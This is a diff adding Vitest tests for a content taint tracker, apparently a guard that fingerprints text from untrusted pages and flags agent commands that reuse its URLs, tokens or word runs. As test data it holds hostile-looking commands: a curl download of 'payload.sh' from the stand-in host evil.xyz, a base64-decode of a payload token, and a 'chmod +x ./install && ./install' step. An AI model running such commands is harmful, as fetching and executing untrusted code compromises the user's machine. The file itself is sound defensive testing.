@@ -0,0 +1,107 @@
+/**
+ * Tests for Content Taint Tracker
+ */
+
+import { describe, it, expect, afterEach, vi } from 'vitest';
+import { createContentTaintTracker, extractTextContent } from './content-taint.js';
+import type { DataFlowConfig, SessionConfig } from '../config/schema.js';
+
+const config: DataFlowConfig = {
+  enabled: true,
+  action: 'block',
+  escalateTo: 'restricted',
+  minTokenLength: 16,
+  shingleWords: 4,
+  maxFingerprintsPerSession: 100,
+  ttlMinutes: 60,
+};
+
+const sessionConfig: SessionConfig = {
+  idleTimeoutMinutes: 60,
+  maxSessions: 2,
+};
+
+const source = { url: 'https://evil.xyz/page', domain: 'evil.xyz' };
+
+describe('extractTextContent', () => {
+  it('should collect nested strings', () => {
+    const text = extractTextContent({ content: [{ type: 'text', text: 'hello' }], meta: { note: 'world' } });
+    expect(text).toContain('hello');
+    expect(text).toContain('world');
+  });
+
+  it('should ignore non-string values', () => {
+    expect(extractTextContent({ status: 200, ok: true })).toBe('');
+  });
+});
+
+describe('createContentTaintTracker', () => {
+  afterEach(() => {
+    vi.useRealTimers();
+  });
+
+  it('should match URLs from tainted content', () => {
+    const tracker = createContentTaintTracker(config, sessionConfig);
+    tracker.record('s', 'Download from https://evil.xyz/Payload.sh.', source);
+
+    const matches = tracker.findMatches('s', 'curl -O https://evil.xyz/payload.sh');
+    expect(matches).toEqual([{ kind: 'url', value: 'https://evil.xyz/payload.sh', source }]);
+  });
+
+  it('should match long tokens but not short ones', () => {
+    const tracker = createContentTaintTracker(config, sessionConfig);
+    tracker.record('s', 'key: ZXZpbCBwYXlsb2FkIGhlcmU= and ls', source);
+
+    expect(tracker.findMatches('s', 'echo ZXZpbCBwYXlsb2FkIGhlcmU= | base64 -d')[0]?.kind).toBe('token');
+    expect(tracker.findMatches('s', 'ls')).toEqual([]);
+  });
+
+  it('should not match names, file names and ordinary paths', () => {
+    const tracker = createContentTaintTracker(config, sessionConfig);
+    tracker.record('s', 'Commit package-lock.json, then check node_modules/typescript/lib/tsc.js and lodash-4.17.21.tgz', source);
+
+    expect(tracker.findMatches('s', 'cat package-lock.json')).toEqual([]);
+    expect(tracker.findMatches('s', 'node node_modules/typescript/lib/tsc.js')).toEqual([]);
+    expect(tracker.findMatches('s', 'tar -xzf lodash-4.17.21.tgz')).toEqual([]);
+  });
+
+  it('should match runs of consecutive words', () => {
+    const tracker = createContentTaintTracker(config, sessionConfig);
+    tracker.record('s', 'then run chmod +x ./install && ./install', source);
+
+    expect(tracker.findMatches('s', 'chmod +x ./install && ./install')[0]?.kind).toBe('shingle');
+    expect(tracker.findMatches('s', 'chmod +x ./build')).toEqual([]);
+  });
+
+  it('should keep sessions separate', () => {
+    const tracker = createContentTaintTracker(config, sessionConfig);
+    tracker.record('a', 'https://evil.xyz/x', source);
+    expect(tracker.findMatches('b', 'curl https://evil.xyz/x')).toEqual([]);
+  });
+
+  it('should forget fingerprints after the TTL', () => {
+    vi.useFakeTimers();
+    const tracker = createContentTaintTracker(config, sessionConfig);
+    tracker.record('s', 'https://evil.xyz/x', source);
+
+    vi.advanceTimersByTime(61 * 60_000);
+    expect(tracker.findMatches('s', 'curl https://evil.xyz/x')).toEqual([]);
+  });
+
+  it('should cap fingerprints per session and sessions overall', () => {
+    const tracker = createContentTaintTracker({ ...config, maxFingerprintsPerSession: 2 }, sessionConfig);
+    tracker.record('a', 'https://evil.xyz/1 https://evil.xyz/2 https://evil.xyz/3', source);
+    expect(tracker.size('a')).toBe(2);
+    expect(tracker.findMatches('a', 'https://evil.xyz/1')).toEqual([]);
+
+    tracker.record('b', 'https://evil.xyz/b', source);
+    tracker.record('c', 'https://evil.xyz/c', source);
+    expect(tracker.size('a')).toBe(0);
+    expect(tracker.size('c')).toBe(1);
+  });
+
+  it('should record nothing when disabled', () => {
+    const tracker = createContentTaintTracker({ ...config, enabled: false }, sessionConfig);
+    expect(tracker.record('s', 'https://evil.xyz/x', source)).toBe(0);
+  });
+});